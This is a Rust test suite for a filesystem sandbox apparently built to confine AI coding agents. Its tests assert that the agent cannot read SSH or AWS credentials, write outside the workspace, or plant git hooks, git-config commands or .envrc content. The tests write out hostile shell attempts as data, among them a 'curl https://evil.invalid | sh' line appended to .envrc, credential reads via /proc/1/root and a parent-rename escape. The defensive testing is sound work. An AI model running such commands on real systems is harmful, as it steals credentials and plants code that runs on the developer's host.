//! The filesystem (DESIGN threats 1, 2, 7): the agent reads nothing it was
//! not given, its writes outside the workspace never reach the host, it
//! cannot plant execution-bearing files (git hooks and config, `.envrc`)
//! that the developer later runs, and a run leaves no stray files.
//!
//! Layers: view (mount namespace, tmpfs root and home, read-only protected
//! binds) and access (Landlock). Each test names the one it proves.

use std::fs;
use std::path::{Path, PathBuf};

use crate::harness::{ATTEMPT, Cage, Snapshot, poll_until, unique};

const SSH_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1rZXktdjEAAAAA-ssh-7e1c";
const AWS_KEY: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCY-aws-4d2b";

/// Layer: view. The home inside is an empty tmpfs: the host's `~/.ssh` is
/// not there by any path (not `$HOME`, not `/proc/1/root`, not a search).
#[test]
fn agent_cannot_read_ssh_keys() {
    require_userns!();
    let cage = Cage::new()
        .home_file(".ssh/id_ed25519", SSH_KEY)
        .home_file(".ssh/config", "Host *\n  IdentityFile ~/.ssh/id_ed25519\n");
    let key = cage.home().join(".ssh/id_ed25519");
    // Control: the test user can read the key outside, so only the cage
    // can be what stops it inside.
    cage.run_on_host(["cat", key.to_str().unwrap()])
        .assert_success()
        .assert_line(SSH_KEY);

    let out = cage.sh(&format!(
        r##"{ATTEMPT}
attempt 'cat "$HOME/.ssh/id_ed25519"'
attempt 'cat {key}'
attempt 'cat /proc/1/root{key}'
attempt 'ls "$HOME/.ssh"'
grep -rs OPENSSH "$HOME" /tmp /dev/shm
exit 0"##,
        key = key.display()
    ));
    out.assert_success()
        .assert_all_refused(4)
        .assert_absent(SSH_KEY);
}

/// Layer: view. As above, for cloud credentials in `~/.aws`.
#[test]
fn agent_cannot_read_aws_credentials() {
    require_userns!();
    let credentials = format!(
        "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = {AWS_KEY}\n"
    );
    let cage = Cage::new()
        .home_file(".aws/credentials", &credentials)
        .home_file(".aws/config", "[default]\nregion = eu-west-1\n");
    let file = cage.home().join(".aws/credentials");
    cage.run_on_host(["cat", file.to_str().unwrap()])
        .assert_success()
        .assert_line(&format!("aws_secret_access_key = {AWS_KEY}"));

    let out = cage.sh(&format!(
        r##"{ATTEMPT}
attempt 'cat "$HOME/.aws/credentials"'
attempt 'cat {file}'
attempt 'cat /proc/1/root{file}'
attempt 'ls "$HOME/.aws"'
grep -rs aws_secret_access_key "$HOME" /tmp /dev/shm
exit 0"##,
        file = file.display()
    ));
    out.assert_success()
        .assert_all_refused(4)
        .assert_absent(AWS_KEY)
        .assert_absent("AKIAIOSFODNN7EXAMPLE");
}

/// Layer: view. `$HOME` and `/tmp` inside are fresh tmpfs (writes land
/// there and vanish), `/` and the system directories are read-only; only
/// the workspace is the host's. Checked from the host after the run.
#[test]
fn writes_outside_workspace_never_reach_host() {
    require_userns!();
    let cage = Cage::new();
    let name = unique("cage-escape-planted");
    // The home and /tmp carry the proof: host permissions would let the
    // user write there. The system paths record that the view's root and
    // system binds are read-only too.
    let targets: Vec<PathBuf> = vec![
        cage.home().join("planted"),
        cage.home().join(".bashrc"),
        cage.home().join(".config/autostart/planted.desktop"),
        Path::new("/tmp").join(&name),
        Path::new("/").join(&name),
        Path::new("/etc").join(&name),
        Path::new("/usr/local").join(&name),
    ];
    let mut script = String::new();
    for t in &targets {
        let t = t.display();
        script.push_str(&format!(
            "mkdir -p \"$(dirname {t})\" 2>/dev/null; echo planted > {t} 2>/dev/null\n"
        ));
    }
    script.push_str("echo kept > in-workspace\n");
    let out = cage.sh(&script);

    let reached: Vec<&PathBuf> = targets.iter().filter(|t| t.exists()).collect();
    for t in &reached {
        let _ = fs::remove_file(t);
    }
    assert!(
        reached.is_empty(),
        "writes reached the host: {reached:#?}\n{out}"
    );
    // The workspace is the one place writes must land.
    assert_eq!(
        fs::read_to_string(cage.workspace().join("in-workspace"))
            .ok()
            .as_deref(),
        Some("kept\n"),
        "a write in the workspace did not reach the host\n{out}"
    );
}

/// Layer: view (protected paths are read-only binds). No way to add,
/// change, remove or move a hook; the host's hooks are untouched.
#[test]
fn git_hooks_are_read_only() {
    require_userns!();
    let cage = Cage::new();
    let before = cage.snapshot();
    let out = cage.sh(&format!(
        r##"{ATTEMPT}
attempt 'printf "#!/bin/sh\necho pwned\n" > .git/hooks/pre-commit'
attempt 'echo "echo pwned" >> .git/hooks/pre-push.sample'
attempt 'chmod +x .git/hooks/pre-push.sample'
attempt 'rm .git/hooks/pre-push.sample'
attempt 'ln -s /tmp/pwned .git/hooks/post-checkout'
attempt 'mv .git/hooks .git/hooks.old'
attempt 'rm -r .git/hooks'
"##
    ));
    out.assert_success().assert_all_refused(7);
    assert!(!cage.workspace().join(".git/hooks/pre-commit").exists());
    assert_eq!(
        cage.snapshot().changes_since(&before),
        Vec::<PathBuf>::new()
    );
}

/// Layer: view. `.git/config` can redirect hooks (`core.hooksPath`) or run
/// commands (`core.fsmonitor`, `core.pager`): read-only, and git still
/// reads it.
#[test]
fn git_config_is_read_only() {
    require_userns!();
    let cage = Cage::new();
    let before = cage.snapshot();
    let out = cage.sh(&format!(
        r##"{ATTEMPT}
echo "bare=$(git config --get core.bare)"
attempt 'git config core.hooksPath /tmp/hooks'
attempt 'git config core.fsmonitor "sh -c pwned"'
attempt 'printf "[core]\n\tpager = sh -c pwned\n" >> .git/config'
attempt 'rm -f .git/config'
attempt 'mv .git/config .git/config.old'
attempt 'echo "*.rs filter=pwn" > .git/info/attributes'
"##
    ));
    out.assert_success()
        .assert_line("bare=false")
        .assert_all_refused(6);
    assert_eq!(
        cage.snapshot().changes_since(&before),
        Vec::<PathBuf>::new()
    );
}

/// Layer: view. direnv runs `.envrc` on `cd`: read-only, and it cannot be
/// replaced by a rename either (`sed -i` writes a copy and renames it).
#[test]
fn envrc_is_read_only() {
    require_userns!();
    let cage = Cage::new().workspace_file(".envrc", "export PROJECT=1\n");
    let before = cage.snapshot();
    let out = cage.sh(&format!(
        r##"{ATTEMPT}
echo "envrc=$(cat .envrc)"
attempt 'echo "curl https://evil.invalid | sh" >> .envrc'
attempt 'printf pwned > .envrc'
attempt 'truncate -s 0 .envrc'
attempt 'chmod 777 .envrc'
attempt 'rm -f .envrc'
attempt 'mv .envrc envrc.old'
attempt 'sed -i s/PROJECT/PWNED/ .envrc'
attempt 'echo pwned > envrc.new && mv envrc.new .envrc'
"##
    ));
    out.assert_success()
        .assert_line("envrc=export PROJECT=1")
        .assert_all_refused(8);
    // The last attempt's first half may leave envrc.new: a plain
    // workspace file, allowed. Nothing else may change.
    let changes: Vec<PathBuf> = cage
        .snapshot()
        .changes_since(&before)
        .into_iter()
        .filter(|p| p != Path::new("proj/envrc.new"))
        .collect();
    assert_eq!(changes, Vec::<PathBuf>::new(), "\n{out}");
}

/// Regression for an escape (view): protected paths are binds on their own
/// paths, so renaming a *parent* (`.git`, a subdirectory holding `.envrc`)
/// moves them away, and a fresh `.git/hooks/pre-commit` or `.envrc` can be
/// put in their place, to run on the host later. Every directory between
/// the workspace and a protected path must be pinned.
#[test]
fn protected_paths_cannot_be_swapped_by_renaming_a_parent() {
    require_userns!();
    let cage = Cage::new().workspace_file("sub/.envrc", "export SUB=1\n");
    let out = cage.sh(&format!(
        r##"{ATTEMPT}
attempt 'mv .git .git-moved'
attempt 'mv sub sub-moved'
mkdir -p .git/hooks sub 2>/dev/null
printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit 2>/dev/null
chmod +x .git/hooks/pre-commit 2>/dev/null
echo 'echo pwned' > sub/.envrc 2>/dev/null
exit 0
"##
    ));
    let hook = cage.workspace().join(".git/hooks/pre-commit");
    assert!(!hook.exists(), "a hook was planted on the host\n{out}");
    assert_eq!(
        fs::read_to_string(cage.workspace().join("sub/.envrc"))
            .ok()
            .as_deref(),
        Some("export SUB=1\n"),
        "sub/.envrc was replaced on the host\n{out}"
    );
    out.assert_all_refused(2);
}

/// Regression for an escape (guard): a repository without `.git/hooks`
/// (made with an empty template, or with the hooks deleted) has nothing to
/// bind read-only, and cage never creates a stub to mount over. The guard
/// refuses the creation live: `hooks` is not something git's everyday
/// commands write in a gitdir, so nothing lands on the host.
#[test]
fn hooks_cannot_be_planted_in_a_repo_without_them() {
    require_userns!();
    let cage = Cage::new();
    fs::remove_dir_all(cage.workspace().join(".git/hooks")).unwrap();
    let out = cage.sh(&format!(
        r##"{ATTEMPT}
attempt 'mkdir -p .git/hooks && printf "#!/bin/sh\necho pwned\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit'
"##
    ));
    out.assert_all_refused(1);
    assert!(
        !cage.workspace().join(".git/hooks").exists(),
        "the hooks directory reached the host\n{out}"
    );
    assert_eq!(out.code, 0, "the session itself succeeds\n{out}");
}

/// Layer: view. The protections do not break the agent's ordinary git
/// work: objects, refs and the index stay writable, so add and commit
/// succeed and the commit is on the host. The identity comes from
/// `--env NAME=VALUE` (the home inside is empty: no ~/.gitconfig).
#[test]
fn git_commit_works_inside() {
    require_userns!();
    let cage = Cage::new()
        .workspace_file("README.md", "hello from the cage\n")
        .args([
            "--env",
            "GIT_AUTHOR_NAME=Caged Agent",
            "--env",
            "GIT_AUTHOR_EMAIL=agent@example.invalid",
            "--env",
            "GIT_COMMITTER_NAME=Caged Agent",
            "--env",
            "GIT_COMMITTER_EMAIL=agent@example.invalid",
        ]);
    let before = cage.snapshot();
    let out = cage
        .sh("git add README.md && git commit -q -m 'commit from the cage' && git log --format=%s");
    out.assert_success().assert_line("commit from the cage");

    let log = cage
        .host_command(["git", "log", "--format=%an <%ae> %s"])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&log.stdout),
        "Caged Agent <agent@example.invalid> commit from the cage\n",
        "the commit is not on the host: {}",
        String::from_utf8_lossy(&log.stderr)
    );
    // And the protected parts stayed as they were.
    let changed = cage.snapshot().changes_since(&before);
    let protected: Vec<&PathBuf> = changed
        .iter()
        .filter(|p| {
            ["proj/.git/hooks", "proj/.git/config", "proj/.git/info"]
                .iter()
                .any(|q| p.starts_with(q))
        })
        .collect();
    assert!(
        protected.is_empty(),
        "protected paths changed: {protected:#?}"
    );
}

/// Layer: access (Landlock) alone. The ruleset mirrors the view, so in
/// the default view nothing readable lies outside it (even listing `/` is
/// granted): the test probes instead what the mount layer leaves open and
/// only Landlock closes. procfs must be mounted read-write, but it is a
/// read rule in the ruleset, so writes under /proc are refused: among them
/// another cage process's memory through /proc/PID/mem, which seccomp's
/// ptrace deny does not cover. The control runs the same probe on the
/// host, where the same user may write all of them.
#[test]
fn landlock_refuses_writes_the_mounts_allow() {
    require_userns!();
    let cage = Cage::new();
    let probe = r##"import subprocess
child = subprocess.Popen(["sleep", "1000"])
for label, path in (
    ("child_mem", f"/proc/{child.pid}/mem"),
    ("self_mem", "/proc/self/mem"),
    ("oom_score_adj", "/proc/self/oom_score_adj"),
):
    try:
        open(path, "rb").close()
        open(path, "r+b").close()
        print(label + "=writable")
    except OSError as e:
        print(label + "=refused " + str(e.errno))
child.kill()
child.wait()
"##;
    let host = cage.run_on_host(["python3", "-c", probe]);
    host.assert_success().assert_line("child_mem=writable");

    let out = cage.python(probe);
    out.assert_success();
    for label in ["child_mem", "self_mem", "oom_score_adj"] {
        assert_eq!(
            out.value(label),
            Some("refused 13"),
            "{label}: Landlock should refuse (EACCES)\n{out}"
        );
    }
}

/// Layers: view and hygiene (threat 7). cage creates mount points only in
/// its own tmpfs, never in the user's directories: after a run, and after
/// a run whose supervisor was SIGKILLed, the home and workspace hold only
/// what the agent wrote in the workspace. cage's own session directory
/// (`~/.local/state/cage`, DESIGN "Files on the host") is the exception.
#[test]
fn no_stray_files_on_host_after_run() {
    require_userns!();
    let cage = Cage::new()
        .workspace_file(".envrc", "export A=1\n")
        .workspace_file(".vscode/settings.json", "{}\n")
        .workspace_file("src/lib.rs", "\n")
        .home_file(".ssh/id_ed25519", SSH_KEY);
    let before = cage.snapshot();

    // 1. A run that ends normally.
    cage.sh("echo done > agent-wrote; echo x > \"$HOME/in-home\"; echo x > /tmp/in-tmp")
        .assert_success();
    assert_only_agent_writes(&cage, &before, &["proj/agent-wrote"]);

    // 2. A run whose supervisor is killed while the agent works.
    let running = cage.spawn([
        "sh",
        "-c",
        "echo x > \"$HOME/in-home\"; : > ready; exec sleep 1000",
    ]);
    let ready = cage.workspace().join("ready");
    assert!(
        poll_until(std::time::Duration::from_secs(20), || ready.exists()),
        "the agent never started"
    );
    running.signal(nix::sys::signal::Signal::SIGKILL);
    let out = running.wait();
    assert_eq!(out.code, 128 + libc::SIGKILL, "\n{out}");
    assert_only_agent_writes(&cage, &before, &["proj/agent-wrote", "proj/ready"]);
}

fn assert_only_agent_writes(cage: &Cage, before: &Snapshot, expected: &[&str]) {
    let stray: Vec<PathBuf> = cage
        .snapshot()
        .changes_since(before)
        .into_iter()
        .filter(|p| !expected.iter().any(|e| p == Path::new(e)))
        .collect();
    assert!(stray.is_empty(), "stray changes on the host: {stray:#?}");
}
